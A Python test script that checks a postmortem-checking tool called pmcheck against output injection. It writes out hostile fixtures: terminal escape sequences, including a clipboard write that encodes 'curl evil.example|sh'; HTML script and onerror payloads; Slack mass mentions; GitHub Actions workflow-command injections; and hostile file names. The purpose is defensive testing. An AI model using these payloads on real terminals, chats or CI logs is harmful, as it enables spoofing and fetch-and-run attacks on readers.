#!/usr/bin/env python3
"""Output injection tests: hostile text in every free-text field of a hotfix,
of a configuration and of past incidents, and hostile file names, through
every output format; the output must not act on the reader's terminal,
document, chat or CI log.

    python3 tests/injection.py ROOT PMCHECK       (tests/injection.sh runs it)

For each run, on stdout and stderr alike:
  - valid UTF-8, no C0 control but tab and newline, no DEL, no C1 control,
    no bidirectional control (U+061C, U+200E/F, U+202A..E, U+2066..9), no
    line or paragraph separator (U+2028/9): no escape sequence can form;
  - nothing the GitHub Actions runner takes for a command: no line that
    starts with "::" after blanks, except the workflow commands the github
    format itself writes (whose properties and message carry no unescaped
    line break, "%", "," or ":"), and no "##[" anywhere: the runner looks
    for that legacy marker anywhere in a line.
Per format:
  - json: every line is a JSON object, and strings come back exactly as the
    input wrote them (escaping loses nothing);
  - markdown: no raw HTML, link, image, heading, mention or table-cell
    break from the input;
  - slack: no <!channel>, <@user>, <url|text> or @here from the input.
Prints PASS/FAIL per run and ends with "N passed, M failed".
"""

import json
import os
import re
import shutil
import subprocess
import sys
import tempfile

ROOT, PMCHECK = sys.argv[1], sys.argv[2]
FORMATS = ["markdown", "text", "json", "gcc", "github", "slack"]

# Every free-text field gets the same hostile text; one marker per kind of
# attack tells in the output whether it was neutralised.
ESC_SEQS = (
    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"   # OSC 8 hyperlink
    "\x1b[2J\x1b[H"                                          # clear screen
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"             # OSC 52 clipboard
    "\x1b]0;title\x07"                                       # window title
    "\u009b31m\u009d0;c1-osc\u009c"                          # C1 CSI, OSC, ST
    "ok\x08\x08\x7fOVERWRITTEN"                               # BS, DEL
    "\u202eevil\u202c \u2066iso\u2069 \u2067r\u2069 \u2068f\u2069"
    "\u202a\u202b\u202d\u200e\u200f\u061c"                   # bidi
)
MARKDOWN = (
    " |PIPE| <script>alert(1)</script> <img src=x onerror=alert(1)>"
    " [LINK](http://evil.example) ![IMAGE](http://evil.example/x.png)"
    " <!-- HIDDEN --> **bold** `code` ~~s~~ &amp; @here @channel @dana"
)
SLACK = " <!channel> <!here> <@U024BE7LH> <http://evil.example|CLICK>"
GITHUB_INLINE = " ::error::INLINE ##[group]INLINE %0A%0D%25 a,b:c"
# A title is one line: no line break of any kind.
TITLE = ESC_SEQS + MARKDOWN + SLACK + GITHUB_INLINE
ONE_LINE = TITLE + " ok\rCR-OVERWRITE"
# Multi-line fields also get line starts of their own.
LINES = (
    "\n# HEADING-INJECTED\n::error file=x,line=1::GHA-INJECTED\n"
    "##[group]GROUP-INJECTED\n::add-mask::MASK-INJECTED\n"
    "| a | TABLE-INJECTED |\n- LIST-INJECTED\n> QUOTE-INJECTED\n"
    "\r::warning::CR-INJECTED\u2028::notice::LS-INJECTED\u0085NEL\n"
    "\x01\x02\x03\x04\x05\x06\x0b\x0c\x0e\x0f\x10\x11\x12\x13\x14\x15"
    "\x16\x17\x18\x19\x1a\x1c\x1d\x1e\x1f \"quote\" \\backslash\\"
)
MULTI = ONE_LINE + LINES


def yq(s):
    """S as a YAML double-quoted scalar: every character that is not
    printable ASCII as an escape, so the file itself stays clean."""
    out = []
    for ch in s:
        o = ord(ch)
        if ch == '"':
            out.append('\\"')
        elif ch == "\\":
            out.append("\\\\")
        elif 0x20 <= o < 0x7F:
            out.append(ch)
        elif o <= 0xFF:
            out.append("\\x%02x" % o)
        elif o <= 0xFFFF:
            out.append("\\u%04x" % o)
        else:
            out.append("\\U%08x" % o)
    return '"' + "".join(out) + '"'


def hostile_hotfix(one, multi):
    return f"""pmcheck: 1
id: {yq("HF-1" + one)}
title: {yq("Title" + TITLE)}
kind: incident
severity: sev1
service: storefront
components: [{yq("cart" + one)}, cart]
summary: {yq("Summary" + multi)}
started_at: 2024-02-10T08:00:00Z
detected_at: 2024-02-10T08:30:00Z
resolved_at: 2024-02-10T12:45:00Z
detected_by: customer
impact:
  customer_facing: true
  users_affected: 4200
  user_flows: [login, {yq("flow" + one)}]
  revenue: true
  slo_breached: true
  error_budget_used: 0.35
  description: {yq("Impact" + multi)}
root_cause:
  known: false
  category: configuration
  description: {yq("Cause" + multi)}
recurrence:
  previous_occurrences: 2
  related: [{yq("INC-1" + one)}]
  permanent_fix: false
teams:
  - {{name: {yq("Team" + one)}, role: owner}}
  - {yq("Other" + one)}
  - {{name: sre, role: responder}}
fix:
  type: config
  reviewed: false
  tests_added: false
  rollback_plan: false
  skipped_steps: [{yq("step" + one)}]
  risks: [{yq("Risk" + multi)}]
  changes: [{yq("http://evil.example/pr" + one)}]
stakeholders:
  notified: [{yq("Notified" + one)}]
  requested_by: [{yq("Requester" + one)}]
  external_communication: true
  leadership: true
action_items:
  - title: {yq("Investigate human error" + TITLE)}
    owner: {yq("Owner" + multi)}
    due: 2024-01-01
    type: prevent
    ticket: {yq("TICKET" + one)}
  - title: {yq("Look into it" + TITLE)}
timeline:
  - at: 2024-02-10T08:00:00Z
    event: {yq("Event" + multi)}
postmortem:
  requested: true
  owner: {yq("PM-owner" + one)}
  link: {yq("http://evil.example/pm" + one)}
  due: 2024-02-20
"""


HOSTILE_CONFIG = f"""pmcheck: 1
history: [history]
extra_blameful_phrases: [{yq("human error" + ESC_SEQS[:80])}, "human error"]
custom_rules:
  hostile_message:
    trigger: stakeholder
    points: 10
    when: {{field: service, eq: storefront}}
    message: {yq("Rule message {value}" + MULTI)}
    description: {yq("Why" + MULTI)}
"""


def history_file(one):
    return f"""id: {yq("PAST-1" + one)}
title: {yq("Past incident" + TITLE)}
service: storefront
components: [cart]
detected_at: 2024-01-20T10:00:00Z
root_cause: {{category: configuration}}
"""


# Invalid inputs whose error message quotes hostile text (a value, a key).
INVALID = {
    "bad-enum.yaml": f"title: t\nseverity: {yq('sev' + ONE_LINE)}\n",
    "bad-key.yaml": f"title: t\n{yq('key' + ONE_LINE)}: 1\n",
    "bad-type.yaml": f"title: t\nimpact:\n  users_affected: {yq('many' + ONE_LINE)}\n",
    "bad-title.yaml": f"title: {yq('two' + MULTI)}\n",
}

# File names: any byte but "/" and NUL, invalid UTF-8 included.
NAMES = [
    b":",
    b" ::indented.yaml",
    b"esc-\x1b[2J-\x1b]8;;http:evil\x1b\\-name.yaml",
    b"cr-\rOVERWRITE.yaml",
    b"nl-\n::error::FILE-INJECTED.yaml",
    b"::error::LEADING.yaml",
    b"##[group]LEADING.yaml",
    b"bidi-\xe2\x80\xaeevil\xe2\x80\xac.yaml",
    b"c1-\xc2\x9b31m.yaml",
    b"invalid-\xff\xfe-\xc0\xaf.yaml",
    b"gha-a,line=9::b%0A%25:c.yaml",
    b"md-|pipe|<b>[l](x)@here#.yaml",
    b"ls-\xe2\x80\xa8-ps-\xe2\x80\xa9.yaml",
]

UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
GH_PROPS = {"file", "line", "col", "endLine", "endColumn", "title"}

passed = failed = 0


def report(name, problems):
    global passed, failed
    if problems:
        failed += 1
        print(f"FAIL {name}: " + "; ".join(problems[:5]))
    else:
        passed += 1
        print(f"PASS {name}")


def check_text(where, data, problems, github_own=False):
    """The promises every byte stream keeps; returns the decoded text."""
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError as e:
        problems.append(f"{where}: invalid UTF-8 at byte {e.start}")
        return None
    m = UNSAFE.search(text)
    if m:
        at = m.start()
        problems.append(f"{where}: raw U+{ord(m.group()):04X} at {at}: "
                        f"{text[max(0, at - 30):at + 10]!r}")
    for i, line in enumerate(text.split("\n")):
        # The runner takes "::" at the start of a line, leading blanks
        # skipped, and the legacy "##[" anywhere in it.
        if "##[" in line:
            problems.append(f"{where}: line {i + 1} holds ##[: {line[:60]!r}")
        if line.lstrip().startswith("::") and not github_own:
            problems.append(f"{where}: line {i + 1} starts with '::': {line[:60]!r}")
    return text


def check_github(text, problems):
    for i, line in enumerate(text.split("\n")[:-1]):
        m = re.match(r"::(notice|warning|error)( [^:]*)?::(.*)$", line)
        if not m:
            problems.append(f"github: line {i + 1} is not a workflow command: {line[:80]!r}")
            continue
        props, msg = m.group(2), m.group(3)
        for prop in (props or "").strip().split(","):
            if not prop:
                continue
            key, eq, value = prop.partition("=")
            if key not in GH_PROPS or not eq:
                problems.append(f"github: line {i + 1}: property {prop[:40]!r}")
            if re.search(r"%(?!25|0A|0D|3A|2C)", value):
                problems.append(f"github: line {i + 1}: raw % in {key}")
        if re.search(r"%(?!25|0A|0D)", msg):
            problems.append(f"github: line {i + 1}: raw % in the message")


def check_markdown(text, problems):
    # Structure from the input would show up unescaped (no backslash before).
    bad = {
        r"(?<!\\)<script": "raw HTML", r"(?<!\\)<img": "raw HTML",
        r"(?<!\\)<!--": "a raw HTML comment",
        r"(?<!\\)\]\(http://evil": "a link", r"(?<!\\)!(?=\\?\[IMAGE)": "an image",
        r"@here": "a mention", r"@channel": "a mention",
        r"(?<!\\)\|PIPE": "a table cell break",
    }
    for pattern, what in bad.items():
        m = re.search(pattern, text)
        if m:
            problems.append(f"markdown: {what} from input: "
                            f"{text[max(0, m.start() - 20):m.end() + 10]!r}")
    starts = re.compile(r"\s*(#+ HEADING|\| a \| TABLE|- LIST|> QUOTE)-INJECTED")
    for line in text.split("\n"):
        if starts.match(line):
            problems.append(f"markdown: input starts a line: {line[:60]!r}")


def check_slack(text, problems):
    for needle in ("<!channel>", "<!here>", "<@U024BE7LH>", "<http://evil",
                   "@here", "@channel"):
        if needle in text:
            problems.append(f"slack: {needle!r} from input")


def check_json(text, problems, expect_title):
    lines = text.split("\n")
    if lines and lines[-1] == "":
        lines.pop()
    for i, line in enumerate(lines):
        try:
            obj = json.loads(line)
        except ValueError as e:
            problems.append(f"json: line {i + 1} does not parse: {e}")
            continue
        if not isinstance(obj, dict):
            problems.append(f"json: line {i + 1} is not an object")
        elif expect_title is not None and "title" in obj and obj["title"] != expect_title:
            problems.append(f"json: title changed: {obj['title'][:60]!r}")


def run(name, status, args, cwd, expect_title=None, stdin=None):
    proc = subprocess.run([PMCHECK] + args, cwd=cwd, capture_output=True,
                          timeout=20, input=stdin,
                          env=dict(os.environ, LC_ALL="C", TERM="dumb",
                                   PMCHECK_TODAY="2024-03-01"))
    problems = []
    if proc.returncode != status:
        problems.append(f"status {proc.returncode}, expected {status}: "
                        f"{proc.stderr[:200]!r}")
    fmt = None
    for i, a in enumerate(args):
        if a == "-f":
            fmt = args[i + 1]
    quiet = "-q" in args
    out = check_text("stdout", proc.stdout, problems,
                     github_own=(fmt == "github" and not quiet))
    check_text("stderr", proc.stderr, problems)
    if out is not None and not quiet:
        if fmt == "github":
            check_github(out, problems)
        elif fmt == "markdown":
            check_markdown(out, problems)
        elif fmt == "slack":
            check_slack(out, problems)
        elif fmt == "json":
            check_json(out, problems, expect_title)
    report(name, problems)


def main():
    work = tempfile.mkdtemp(prefix="pmcheck-injection.")
    try:
        os.chdir(work)
        with open("hostile.yaml", "w") as f:
            f.write(hostile_hotfix(ONE_LINE, MULTI))
        with open(".pmcheck.yaml", "w") as f:
            f.write(HOSTILE_CONFIG)
        os.mkdir("history")
        with open("history/past.yaml", "w") as f:
            f.write(history_file(ONE_LINE))
        # A link that is a plain URL, which formats may write as a link.
        with open("plain-link.yaml", "w") as f:
            f.write("title: t\npostmortem:\n  link: "
                    "\"https://evil.example/pm##[add-mask]x?a=1&b=%0A\"\n")
        for name, text in INVALID.items():
            with open(name, "w") as f:
                f.write(text)
        os.mkdir(b"names")
        for n in NAMES:
            with open(b"names/" + n, "w") as f:
                f.write("title: Hostile file name\nseverity: [\n"
                        if b"invalid" in n or n == b":" else
                        "title: Hostile file name\naction_items:\n  - title: Look into it\n")

        title = "Title" + TITLE
        variants = [
            ("no-config", ["--no-config"]),
            ("config-history", []),           # .pmcheck.yaml found here
        ]
        for vname, vargs in variants:
            for fmt in FORMATS:
                run(f"hotfix {fmt} {vname}", 0, vargs + ["-f", fmt, "hostile.yaml"],
                    work, expect_title=title)
                run(f"invalid {fmt} {vname}", 3,
                    vargs + ["-f", fmt] + sorted(INVALID), work)
                run(f"names {fmt} {vname}", 3, vargs + ["-f", fmt, "names"], work)
                run(f"plain link {fmt} {vname}", 0, vargs + ["-f", fmt, "plain-link.yaml"],
                    work)
            run(f"hotfix -q {vname}", 3, vargs + ["-q", "hostile.yaml", "names"], work)
            run(f"invalid -q {vname}", 3, vargs + ["-q"] + sorted(INVALID), work)
        # Names given one by one, as a shell glob would.
        files = [b"names/" + n for n in NAMES]
        for fmt in FORMATS:
            run(f"name arguments {fmt}", 3, ["--no-config", "-f", fmt] + files, work)
        # Bare names, so that the name starts each line that names it.
        for fmt in FORMATS + ["-q"]:
            fargs = ["-q"] if fmt == "-q" else ["-f", fmt]
            run(f"bare names {fmt}", 3, ["--no-config"] + fargs + list(NAMES),
                os.path.join(work, "names"))
        for fmt in FORMATS:
            run(f"stdin-filename {fmt}", 0,
                ["--no-config", "-f", fmt, "--stdin-filename",
                 "\x1b[2J::error::STDIN\n##[group]x\u202e", "-"], work,
                expect_title=title, stdin=open("hostile.yaml", "rb").read())
        run("print-config", 0, ["--print-config"], work)
        run("list-rules", 0, ["--list-rules"], work)
        # Hostile names where pmcheck writes and where it is configured.
        run("output name", 4, ["--no-config", "-o", b"names/" + NAMES[0],
                               "hostile.yaml"], work)
        run("config name", 2, ["--config", b"names/" + NAMES[0], "hostile.yaml"], work)
        run("history name", 0, ["--no-config", "--history", "names", "hostile.yaml"],
            work)
        run("usage error", 2, ["--format", "\x1b]52;c;x\x07::error::USAGE"], work)
    finally:
        os.chdir(ROOT)
        shutil.rmtree(work, ignore_errors=True)
    print(f"{passed} passed, {failed} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
